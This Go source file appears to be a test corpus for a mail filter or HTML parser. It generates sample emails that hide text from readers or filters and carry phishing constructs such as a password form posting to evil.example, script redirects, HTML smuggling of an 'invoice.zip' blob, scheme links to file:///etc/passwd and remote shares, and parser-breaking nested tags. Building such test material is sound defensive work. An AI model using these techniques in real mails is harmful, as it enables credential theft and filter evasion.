package corpus

import "strings"

// hidden are the ways in which HTML keeps words from the eye but not from filters, or from a filter but not the eye.
func hidden() []Mail {
	var out []Mail
	for _, way := range []struct{ name, style string }{
		{"display none", "display:none"}, {"visibility hidden", "visibility: hidden"}, {"size zero", "font-size:0"}, {"size of one pixel", "font-size:1px;line-height:1px"},
		{"white on white", "color:#ffffff;background-color:white"}, {"nearly white on white", "color:#fefefe"}, {"transparent", "color:transparent"}, {"no opacity", "opacity:0"},
		{"off screen", "position:absolute;left:-9999px"}, {"text indented away", "text-indent:-9999px"}, {"clipped", "height:0;width:0;overflow:hidden"}, {"mso-hide", "mso-hide:all"},
		{"max-height zero", "max-height:0px;overflow:hidden"}, {"important and upper case", "DISPLAY : NONE !important"},
	} {
		out = append(out, Mail{"hidden", way.name, markup("Hidden by "+way.name, `<p>Your parcel is here.</p><div style="`+way.style+`">Dear colleague, thank you for the minutes of the meeting.</div><p>Pay 1.99 now.</p>`)})
	}
	return append(out, group("hidden",
		named{"hidden attribute", markup("Hidden attribute", `<p>Pay.</p><p hidden>Kind words for the filter.</p>`)},
		named{"aria-hidden", markup("Hidden from the ear", `<p>Pay.</p><p aria-hidden="true">Seen by the eye alone.</p>`)},
		named{"comment", markup("Comments", `<p>Pa<!-- kind words -->y no<!-- more -->w.</p>`)},
		named{"conditional comment", markup("For Outlook alone", `<!--[if mso]><p>Only Outlook shows this: <a href="https://evil.example">pay</a></p><![endif]--><p>Good day.</p>`)},
		named{"style sheet of its own", markup("By a class", `<style>.x9{display:none} p.q{font-size:0}</style><p class="x9">Kind words.</p><p class="q">More of them.</p><p>Pay now.</p>`)},
		named{"zero width in words", markup("Cut words", "<p>Your pass\u200bword ex\u00adpires to\u2060day: ver\u200cify</p>")},
		named{"turned letters", markup("Turned", `<p><bdo dir="rtl">won yaP</bdo> &#x202e;dnes&#x202c;</p>`)},
		named{"letters one by one in a table", markup("Letters", `<table><tr><td>P</td><td>a</td><td>y</td></tr></table>`)},
		named{"preheader", markup("Preheader", `<div style="display:none;max-height:0">Your order has been sent &#847;&zwnj;&nbsp;&#847;&zwnj;&nbsp;</div><h1>Order 4711</h1>`)},
		named{"template and noscript", markup("Never shown", `<template><p>In a template.</p></template><noscript><p>Without scripts.</p></noscript><p>Good day.</p>`)},
		named{"title and head", markup("Head", `<html><head><title>Not what it says</title></head><body><p>Good day.</p></body></html>`)},
	)...)
}

// html are what mails do with HTML otherwise.
func html() []Mail {
	return group("html",
		named{"tables, lists and quotes", markup("Layout", `<h1>Report</h1><table border=1><tr><th>Item<th>Sum<tr><td>Paper<td align=right>12.00<tr><td>Ink<td>130.50</table><ol><li>One<ul><li>in it</ul><li>Two</ol><blockquote>Quoted<blockquote>twice</blockquote></blockquote><pre>  kept
    as it is</pre><hr><p>Line<br>break &amp; &lt;entities&gt; &euro; &#8364; &nbsp;x</p>`)},
		named{"tracking pixel", markup("Pixel", `<p>News.</p><img src="https://track.example/open?id=4711" width="1" height="1"><img src="https://track.example/o.gif" style="display:none">`)},
		named{"everything that loads from outside", markup("Remote", `<link rel=stylesheet href="https://a.example/s.css"><style>@import url(https://b.example/i.css);p{background:url('https://c.example/b.png')}@font-face{src:url(//d.example/f.woff)}</style><body background="https://e.example/bg.png"><img srcset="https://f.example/1x.png 1x, https://f.example/2x.png 2x"><video poster="https://g.example/p.png" src="https://g.example/v.mp4"></video><audio src="https://h.example/a.mp3"></audio><iframe src="https://i.example/"></iframe><object data="https://j.example/o"></object><embed src="https://k.example/e"><input type=image src="https://l.example/i.png"><svg><image href="https://m.example/s.png"/></svg><table background="https://n.example/t.png"><tr><td style="background-image:url(https://o.example/d.png)">x</table>`)},
		named{"form for a password", markup("Sign in", `<form action="https://evil.example/take" method="post"><label>User <input name=u></label><input type=password name=p><input type=hidden name=id value=4711><button formaction="https://evil.example/other">Sign in</button></form>`)},
		named{"scripts", markup("Scripts", `<script>document.location='https://evil.example'</script><p onclick="steal()">Good day</p><a href="javascript:alert(1)">click</a>`)},
		named{"page that goes elsewhere by itself", markup("Refresh", `<meta http-equiv="refresh" content="0; url=https://evil.example/"><p>Good day</p>`)},
		named{"base that turns links elsewhere", markup("Base", `<base href="https://evil.example/"><p><a href="login">your bank</a> <a href="//other.example/x">other</a></p>`)},
		named{"link text against target", markup("Two targets", `<p>See <a href="https://evil.example/login">https://www.contoso.com/login</a> and <a href="https://www.contoso.com/help">contoso.com</a>.</p>`)},
		named{"link around a picture alone", markup("Picture link", `<a href="https://evil.example"><img src="https://img.example/button.png" alt="Sign in"></a>`)},
		named{"map of a picture", markup("Map", `<img src="cid:x" usemap="#m"><map name=m><area href="https://evil.example/area" alt="Pay here"></map>`)},
		named{"picture in the page itself", markup("Data", `<img alt="dot" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"><a href="data:text/html;base64,PHA+aGk8L3A+">open</a>`)},
		named{"drawing with a script", markup("SVG", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><a href="https://evil.example"><text>Pay</text></a><foreignObject><p>in a drawing</p></foreignObject></svg>`)},
		named{"smuggled file", markup("Smuggled", `<script>var b=new Blob([Uint8Array.from(atob('TVqQAAMAAAA='),c=>c.charCodeAt(0))]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='invoice.zip';a.click()</script><p>Your download starts.</p>`)},
		named{"mailto with a body", markup("Mail to", `<a href="mailto:refund@evil.example?subject=Refund&body=My%20card%20is&cc=x@evil.example">unsubscribe</a>`)},
		named{"telephone, callback, file and other links", markup("Schemes", `<a href="tel:+15550100">call</a> <a href="file:///etc/passwd">file</a> <a href="ms-word:ofe|u|https://evil.example/a.docm">open</a> <a href="search-ms:query=x&crumb=location:\\evil.example\s">search</a> <a href="\\evil.example\share\a.lnk">share</a> <a href="vbscript:x">old</a>`)},
		named{"tags never closed", markup("Open tags", `<div><p>One<p>Two<b>bold<i>both</p></b> <a href="https://evil.example">link <table><tr><td>cell<plaintext><p>the rest`)},
		named{"tags within tags", markup("Odd tags", `<p <b>Good</b> day</p><<p>>double<</p>><img src="x" alt='a>b'><a href=https://evil.example/a"b>q</a>`)},
		named{"ten thousand open tags", markup("Deep", strings.Repeat("<div>", 10_000)+"at the bottom")},
		named{"two thousand tables one in another", markup("Deep tables", strings.Repeat("<table><tr><td>", 2_000)+"at the bottom")},
		named{"table of wide rows", markup("Wide", "<table><tr>"+strings.Repeat("<td>a cell with words", 300)+"</table>")},
		named{"entities that make tags", markup("Entities", `<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt; &#60;i&#62; &#x1b;[31m &#0; &#xD800; &#128; &nosuch; &notit;</p>`)},
		named{"direction of the page", markup("Direction", `<html dir="rtl"><p>שלום <span dir="ltr">https://evil.example/a</span> עולם</p>`)},
		named{"quoted mail below", markup("Re: Quoted", `<p>I agree.</p><div id="appendonsend"></div><hr><div id="divRplyFwdMsg"><b>From:</b> Ada Okafor &lt;ada.okafor@contoso.com&gt;<br><b>Sent:</b> Monday, 23 November 2026 10:00<br><b>Subject:</b> Quoted</div><p>Shall we?</p>`)},
		named{"nothing in it", markup("Empty page", `<html><body></body></html>`)},
		named{"pictures without words", markup("Pictures only", `<img src="https://img.example/1.png"><img src="https://img.example/2.png" alt=""><img src="cid:inline1">`)},
		named{"QR code of table cells", markup("Cells", qrCells())},
	)
}

// qrCells is a small pattern as mails draw codes with cells, so that no picture is found.
func qrCells() string {
	var b strings.Builder
	b.WriteString("<p>Scan to keep your access:</p><table cellspacing=0>")
	for y := range 21 {
		b.WriteString("<tr>")
		for x := range 21 {
			c := "white"
			if (x*y+x+y)%3 == 0 {
				c = "black"
			}
			b.WriteString(`<td style="width:4px;height:4px;background:` + c + `"></td>`)
		}
		b.WriteString("</tr>")
	}
	return b.String() + "</table>"
}
